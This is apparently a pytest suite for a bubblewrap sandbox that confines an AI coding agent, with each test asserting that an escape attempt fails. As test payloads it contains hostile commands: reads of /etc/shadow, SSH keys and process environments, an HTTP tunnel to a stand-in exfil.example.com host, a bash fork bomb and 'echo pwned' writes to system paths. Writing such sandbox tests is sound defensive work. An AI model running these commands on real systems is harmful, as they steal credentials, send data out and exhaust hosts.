"""A hostile agent against the real bubblewrap sandbox: every test is one attempt to read a
secret, write outside the worktree, reach the network, or exhaust the host, and asserts that the
attempt failed (and, for egress, that it was logged)."""

from __future__ import annotations

import logging
import os
import pwd
import shutil
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from integrations.sandbox import BubblewrapSandbox
from integrations.sandbox.cgroup import PidsCgroup
from integrations.sandbox.layout import python_paths
from worker.cli.sandbox import sandbox_exec
from worker.fix.models import CommandResult, Limits, SandboxPolicy

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None,
                                reason="bubblewrap not installed")

SECRET = "s3cr3t-" + uuid.uuid4().hex


@pytest.fixture
def worktree(tmp_path: Path) -> Path:
    path = tmp_path / "worktree"
    path.mkdir()
    (path / "app.py").write_text("print('app')\n")
    return path


@pytest.fixture
def sibling(tmp_path: Path) -> Path:
    """Another run's worktree, next to ours, holding a secret."""
    path = tmp_path / "other-run"
    path.mkdir()
    (path / "secret.txt").write_text(SECRET + "\n")
    return path


@pytest.fixture
def sandbox() -> BubblewrapSandbox:
    return BubblewrapSandbox()


def shell(sandbox: BubblewrapSandbox, worktree: Path, script: str,
          policy: SandboxPolicy | None = None) -> CommandResult:
    return sandbox.run(worktree, ["sh", "-c", script], policy or SandboxPolicy())


def python(sandbox: BubblewrapSandbox, worktree: Path, code: str,
           policy: SandboxPolicy | None = None) -> CommandResult:
    return sandbox.run(worktree, ["python", "-c", code], policy or SandboxPolicy())


def leaked(result: CommandResult, secret: str = SECRET) -> bool:
    return secret in result.stdout or secret in result.stderr


def test_cannot_read_etc_shadow(sandbox, worktree):
    result = shell(sandbox, worktree, "cat /etc/shadow")

    assert result.exit_code != 0
    assert "No such file" in result.stderr and result.stdout == ""


def test_cannot_read_the_host_users_ssh_key(sandbox, worktree, tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN KEY-----\n{SECRET}\n")
    monkeypatch.setenv("HOME", str(home))

    by_path = shell(sandbox, worktree, f"cat {home}/.ssh/id_rsa")
    by_home = shell(sandbox, worktree, "cat ~/.ssh/id_rsa")
    listing = shell(sandbox, worktree, "ls -A ~")

    assert by_path.exit_code != 0 and not leaked(by_path)
    assert by_home.exit_code != 0 and not leaked(by_home)
    assert listing.exit_code == 0 and listing.stdout == ""  # $HOME inside is an empty tmpfs


def test_cannot_read_roots_home_or_ssh_directory(sandbox, worktree):
    home = Path(pwd.getpwuid(0).pw_dir)
    # Only the Python installation may show through, when it lives under root's home.
    python_entries = {p.relative_to(home).parts[0] for p in python_paths()
                      if p.is_relative_to(home)}
    listing = shell(sandbox, worktree, f"ls -A {home}")
    ssh = shell(sandbox, worktree, f"ls -A {home}/.ssh; cat {home}/.ssh/*")

    assert set(listing.stdout.split()) <= python_entries
    assert ssh.exit_code != 0 and ssh.stdout == ""


def test_cannot_read_the_workers_environment(sandbox, worktree, monkeypatch):
    monkeypatch.setenv("SUTURE_GITHUB__TOKEN", SECRET)
    script = ("env; cat /proc/1/environ /proc/$PPID/environ /proc/1/cmdline; "
              "for f in /proc/[0-9]*/environ; do cat $f; done; "
              "cat /proc/[0-9]*/cmdline")
    result = shell(sandbox, worktree, script)

    assert "PATH=" in result.stdout  # the commands ran and printed their own environment
    assert not leaked(result)
    assert "SUTURE_" not in result.stdout


def test_cannot_see_or_signal_host_processes(sandbox, worktree):
    result = shell(sandbox, worktree, f"ps -e -o pid=,comm=; kill -9 {os.getpid()}; echo $?")

    pids = [int(line.split()[0]) for line in result.stdout.splitlines()[:-1]]
    assert max(pids) < 50  # only the sandbox's own pid namespace is visible
    assert result.stdout.splitlines()[-1] != "0"  # the kill failed; we are still here


def test_cannot_read_another_runs_worktree(sandbox, worktree, sibling):
    result = shell(sandbox, worktree, f"cat {sibling}/secret.txt; ls -A {sibling.parent}")

    assert not leaked(result)
    assert result.stdout.split() == [worktree.name]


def test_tmp_writes_vanish_after_the_command(sandbox, worktree):
    name = f"suture-hostile-{uuid.uuid4().hex}"
    wrote = shell(sandbox, worktree, f"echo {SECRET} > /tmp/{name} && cat /tmp/{name}")
    later = shell(sandbox, worktree, f"cat /tmp/{name}")

    assert wrote.exit_code == 0 and leaked(wrote)  # a private /tmp works inside ...
    assert later.exit_code != 0 and not leaked(later)  # ... and is gone afterwards
    assert not (Path("/tmp") / name).exists()  # and never reached the host's /tmp


@pytest.mark.parametrize("target", ["/usr/bin/suture-evil", "/evil", "/etc/passwd",
                                    "/etc/suture-evil", "/dev/suture-evil"])
def test_cannot_write_the_system(sandbox, worktree, target):
    host = Path(target)
    before = host.read_bytes() if host.exists() else None
    result = shell(sandbox, worktree, f"echo pwned >> {target}")

    assert result.exit_code != 0
    assert "Read-only file system" in result.stderr
    assert (host.read_bytes() if host.exists() else None) == before


def test_cannot_write_another_runs_worktree(sandbox, worktree, sibling):
    script = (f"echo pwned > {sibling}/secret.txt; mkdir -p {sibling} && "
              f"echo pwned > {sibling}/planted.txt; ls {sibling}")
    shell(sandbox, worktree, script)

    assert (sibling / "secret.txt").read_text() == SECRET + "\n"
    assert sorted(p.name for p in sibling.iterdir()) == ["secret.txt"]


class _Counting(BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 (the stdlib's name)
        self.hits.append(self.path)
        body = b"model says hi"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


@pytest.fixture
def model_server() -> Iterator[tuple[int, list[str]]]:
    """Stands in for the model API an agent CLI may reach: its port and the paths it served."""
    handler = type("Handler", (_Counting,), {"hits": []})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
    thread.start()
    yield server.server_address[1], handler.hits
    server.shutdown()
    server.server_close()
    thread.join()


EGRESS = """
import http.client, sys, urllib.request
port = int(sys.argv[1])
print("allowed:", urllib.request.urlopen(f"http://localhost:{port}/v1/messages").read())
for url in [f"http://127.0.0.2:{port}/", "http://localhost:6379/", f"http://127.0.0.1:{port}/"]:
    try:
        urllib.request.urlopen(url, timeout=5)
        print("REACHED", url)
    except OSError as error:
        print("blocked:", url, error)
tunnel = http.client.HTTPConnection("127.0.0.1", 3128, timeout=5)
tunnel.set_tunnel("exfil.example.com", 443)
try:
    tunnel.request("GET", "/")
    print("REACHED exfil")
except OSError as error:
    print("blocked: tunnel", error)
"""


def test_egress_reaches_only_the_allowlisted_host_and_logs_refusals(sandbox, worktree,
                                                                    model_server, caplog):
    caplog.set_level(logging.WARNING, logger="suture.sandbox.egress")
    port, hits = model_server
    policy = SandboxPolicy(allow_hosts=[f"localhost:{port}"])
    result = sandbox.run(worktree, ["python", "-c", EGRESS, str(port)], policy)

    assert "allowed: b'model says hi'" in result.stdout, result.stderr
    assert "REACHED" not in result.stdout
    assert result.stdout.count("blocked:") == 4
    assert hits == ["/v1/messages"]
    refused = {(r.host, r.port) for r in sandbox.refused}
    assert refused == {("127.0.0.2", port), ("localhost", 6379), ("127.0.0.1", port),
                       ("exfil.example.com", 443)}
    assert all(f"{host}:{p}" in caplog.text for host, p in refused)


DIRECT = """
import socket, sys
for address in [("127.0.0.1", int(sys.argv[1])), ("1.1.1.1", 80), ("10.0.0.1", 443)]:
    try:
        socket.create_connection(address, timeout=3).close()
        print("REACHED", address)
    except OSError as error:
        print("blocked:", address, error)
"""


@pytest.mark.parametrize("allow_hosts", [[], ["localhost"]])
def test_direct_connections_fail_without_the_proxy(sandbox, worktree, model_server,
                                                   allow_hosts):
    port, hits = model_server
    result = sandbox.run(worktree, ["python", "-c", DIRECT, str(port)],
                         SandboxPolicy(allow_hosts=allow_hosts))

    assert result.stdout.count("blocked:") == 3, result.stdout + result.stderr
    assert "REACHED" not in result.stdout
    assert hits == []


@pytest.fixture
def process_limit_enforced() -> None:
    """Skip where nothing would enforce a process limit (root without a pids cgroup)."""
    probe = PidsCgroup.create(1)
    if probe:
        probe.remove()
    elif os.geteuid() == 0:
        pytest.skip("root without a pids cgroup: RLIMIT_NPROC does not bind root")


FORKS = """
import os, time
made = 0
try:
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        made += 1
    print("forked all", made)
except OSError as error:
    print("refused after", made, type(error).__name__)
"""


def test_fork_loop_is_capped(sandbox, worktree, process_limit_enforced):
    limits = Limits(processes=32, wall_seconds=20)
    result = python(sandbox, worktree, FORKS, SandboxPolicy(limits=limits))

    assert result.stdout.startswith("refused after"), result.stdout + result.stderr
    assert int(result.stdout.split()[2]) < 64
    assert "process limit (32) was reached" in result.stderr


def test_fork_bomb_is_contained_and_killed(sandbox, worktree, process_limit_enforced):
    limits = Limits(processes=64, wall_seconds=3)
    result = sandbox.run(worktree, ["bash", "-c", ":(){ :|:& };:; sleep 60"],
                         SandboxPolicy(limits=limits))

    assert result.timed_out and result.killed == "timeout"
    assert "process limit (64) was reached" in result.stderr


def test_memory_hog_is_stopped(sandbox, worktree):
    code = "hog = bytearray(4 * 1024 ** 3); print('allocated', len(hog))"
    result = python(sandbox, worktree, code, SandboxPolicy(limits=Limits(memory_mb=256)))

    assert result.exit_code != 0
    assert "MemoryError" in result.stderr
    assert "allocated" not in result.stdout


def _host_processes_with(marker: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and marker in (entry / "cmdline").read_text():
                found.append(int(entry.name))
        except OSError:
            continue  # gone while we looked
    return found


def test_runaway_tree_is_killed_whole_at_the_wall_clock(sandbox, worktree):
    marker = f"suture-orphan-{uuid.uuid4().hex}"
    script = (f"python -c 'import time; time.sleep(600)' {marker} > /dev/null 2>&1 & "
              "while :; do :; done")
    result = shell(sandbox, worktree, script, SandboxPolicy(limits=Limits(wall_seconds=2)))

    assert result.timed_out and result.killed == "timeout"
    assert result.exit_code != 0
    assert _host_processes_with(marker) == []


def test_cannot_create_namespaces_inside(sandbox, worktree):
    result = shell(sandbox, worktree, "unshare --user --map-root-user id -u")

    assert result.exit_code != 0 and result.stdout == ""


def test_operator_command_returns_the_commands_status(worktree, capsys):
    assert sandbox_exec(worktree, [], ["cat", "/etc/shadow"]) == 1
    assert "No such file" in capsys.readouterr().err
    assert sandbox_exec(worktree, [], ["sh", "-c", "exit 42"]) == 42
